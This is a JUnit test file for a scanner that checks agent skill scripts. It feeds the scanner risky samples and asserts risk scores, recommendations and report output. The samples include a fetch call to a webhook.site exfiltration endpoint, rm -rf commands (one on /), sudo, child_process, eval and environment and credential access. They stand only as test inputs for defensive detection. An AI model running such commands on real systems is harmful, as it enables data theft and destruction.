package me.golemcore.guard.security;

import me.golemcore.guard.domain.model.ScanFinding;
import me.golemcore.guard.domain.model.ScanResult;
import me.golemcore.guard.infrastructure.config.GuardProperties;
import me.golemcore.guard.testsupport.MutableClock;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.*;

class SkillScannerTest {

    private static final Instant NOW = Instant.parse("2026-02-01T10:00:00Z");
    private static final String SKILL_PATH = "skills/helper.js";

    @TempDir
    Path tempDir;

    private MutableClock clock;
    private SkillScanner scanner;

    @BeforeEach
    void setUp() {
        clock = new MutableClock(NOW);
        scanner = new SkillScanner(new GuardProperties(), clock);
    }

    @Test
    void shouldAllowCleanContent() {
        ScanResult result = scanner.scanContent("const x = 1;\nconsole.log(x);", SKILL_PATH);

        assertEquals(0, result.getRiskScore());
        assertEquals(ScanResult.ScanLevel.SAFE, result.getRiskLevel());
        assertEquals(ScanResult.Recommendation.ALLOW, result.getRecommendation());
        assertTrue(result.getFindings().isEmpty());
        assertEquals("helper", result.getSkillName());
        assertEquals(NOW, result.getScannedAt());
    }

    @Test
    void shouldBlockKnownExfiltrationEndpoint() {
        ScanResult result = scanner.scanContent("fetch('https://webhook.site/abc')", "skills/exfil.js");

        assertEquals(60, result.getRiskScore());
        assertEquals(ScanResult.ScanLevel.HIGH, result.getRiskLevel());
        assertEquals(ScanResult.Recommendation.BLOCK, result.getRecommendation());
        assertTrue(result.getFindings().stream()
                .anyMatch(f -> f.getType() == ScanFinding.FindingType.DATA_EXFILTRATION
                        && f.getSeverity() == ScanFinding.Severity.CRITICAL));
    }

    @Test
    void shouldRecommendReviewForMediumRisk() {
        ScanResult result = scanner.scanContent("const cp = require('child_process');", SKILL_PATH);

        assertEquals(25, result.getRiskScore());
        assertEquals(ScanResult.ScanLevel.MEDIUM, result.getRiskLevel());
        assertEquals(ScanResult.Recommendation.REVIEW, result.getRecommendation());
        assertEquals(ScanFinding.FindingType.SHELL_EXECUTION, result.getFindings().get(0).getType());
    }

    @Test
    void shouldRecommendSandboxForHighRiskWithoutCriticalFindings() {
        ScanResult result = scanner.scanContent("sudo chmod 755 deploy.sh", SKILL_PATH);

        assertEquals(70, result.getRiskScore());
        assertEquals(ScanResult.ScanLevel.HIGH, result.getRiskLevel());
        assertEquals(ScanResult.Recommendation.SANDBOX, result.getRecommendation());
        assertEquals(2, result.getFindings().size());
    }

    @Test
    void shouldReportLineOfEnvironmentAccess() {
        ScanResult result = scanner.scanContent("import os\nvalue = os.environ['HOME']", "skills/env.py");

        assertEquals(ScanResult.ScanLevel.LOW, result.getRiskLevel());
        assertEquals(ScanResult.Recommendation.ALLOW, result.getRecommendation());
        ScanFinding finding = result.getFindings().get(0);
        assertEquals(ScanFinding.FindingType.ENVIRONMENT_ACCESS, finding.getType());
        assertEquals(2, finding.getLine());
        assertEquals("os.environ", finding.getCode());
    }

    @Test
    void shouldMatchCredentialVariableNamesCaseSensitively() {
        assertEquals(20, scanner.scanContent("API_KEY = load()", SKILL_PATH).getRiskScore());
        assertEquals(0, scanner.scanContent("const token = 1", SKILL_PATH).getRiskScore());
    }

    @Test
    void shouldCapScoreAtHundred() {
        ScanResult result = scanner.scanContent("rm -rf /tmp/a\nrm -rf /tmp/b\nrm -rf /tmp/c", "skills/wipe.sh");

        assertEquals(3, result.getFindings().size());
        assertEquals(100, result.getRiskScore());
        assertEquals(ScanResult.ScanLevel.CRITICAL, result.getRiskLevel());
        assertEquals(ScanResult.Recommendation.BLOCK, result.getRecommendation());
    }

    @Test
    void shouldTreatNullContentAsSafe() {
        ScanResult result = scanner.scanContent(null, null);

        assertEquals(ScanResult.ScanLevel.SAFE, result.getRiskLevel());
        assertEquals("unknown", result.getSkillName());
    }

    @Test
    void shouldCacheFileScansUntilTtlExpires() throws IOException {
        Path file = tempDir.resolve("helper.js");
        Files.writeString(file, "console.log('hi');");

        ScanResult first = scanner.scanFile(file);
        Files.writeString(file, "eval(userInput);");
        ScanResult cached = scanner.scanFile(file);

        assertSame(first, cached);
        assertEquals(1, scanner.getCacheSize());

        clock.advance(Duration.ofHours(2));
        ScanResult rescanned = scanner.scanFile(file);

        assertEquals(ScanResult.Recommendation.BLOCK, rescanned.getRecommendation());
    }

    @Test
    void shouldClearCache() throws IOException {
        Path file = tempDir.resolve("helper.js");
        Files.writeString(file, "console.log('hi');");
        scanner.scanFile(file);

        scanner.clearCache();

        assertEquals(0, scanner.getCacheSize());
    }

    @Test
    void shouldReportOldestCachedScan() throws IOException {
        assertEquals(new SkillScanner.CacheStats(0, null), scanner.getCacheStats());

        Path first = tempDir.resolve("first.js");
        Path second = tempDir.resolve("second.js");
        Files.writeString(first, "console.log('a');");
        Files.writeString(second, "console.log('b');");
        Instant firstScan = clock.instant();
        scanner.scanFile(first);
        clock.advance(Duration.ofMinutes(5));
        scanner.scanFile(second);

        SkillScanner.CacheStats stats = scanner.getCacheStats();
        assertEquals(2, stats.size());
        assertEquals(firstScan, stats.oldestEntry());
    }

    @Test
    void shouldScanOnlyConfiguredExtensionsInDirectory() throws IOException {
        Files.writeString(tempDir.resolve("a.js"), "console.log('a');");
        Files.writeString(tempDir.resolve("b.py"), "import subprocess");
        Files.writeString(tempDir.resolve("notes.txt"), "rm -rf /");
        Files.createDirectories(tempDir.resolve("nested"));
        Files.writeString(tempDir.resolve("nested").resolve("c.js"), "eval(x)");

        List<ScanResult> results = scanner.scanDirectory(tempDir);

        assertEquals(List.of("a", "b"), results.stream().map(ScanResult::getSkillName).toList());
    }

    @Test
    void shouldReturnEmptyListForMissingDirectory() {
        assertTrue(scanner.scanDirectory(tempDir.resolve("missing")).isEmpty());
    }

    @Test
    void shouldGenerateMarkdownReport() {
        ScanResult result = scanner.scanContent("fetch('https://webhook.site/abc')", "skills/exfil.js");

        String report = scanner.generateReport(result);

        assertTrue(report.startsWith("# Security Scan Report: exfil"));
        assertTrue(report.contains("**Risk Score:** 60/100"));
        assertTrue(report.contains("**Recommendation:** BLOCK"));
        assertTrue(report.contains("### CRITICAL (1)"));
        assertTrue(report.contains("### INFO (1)"));
        assertTrue(report.contains("Mitigation: Block this skill immediately"));
        assertTrue(report.indexOf("### CRITICAL") < report.indexOf("### INFO"));
    }

    @Test
    void shouldReportCleanScan() {
        String report = scanner.generateReport(scanner.scanContent("const x = 1;", SKILL_PATH));

        assertTrue(report.contains("No security issues detected."));
    }
}
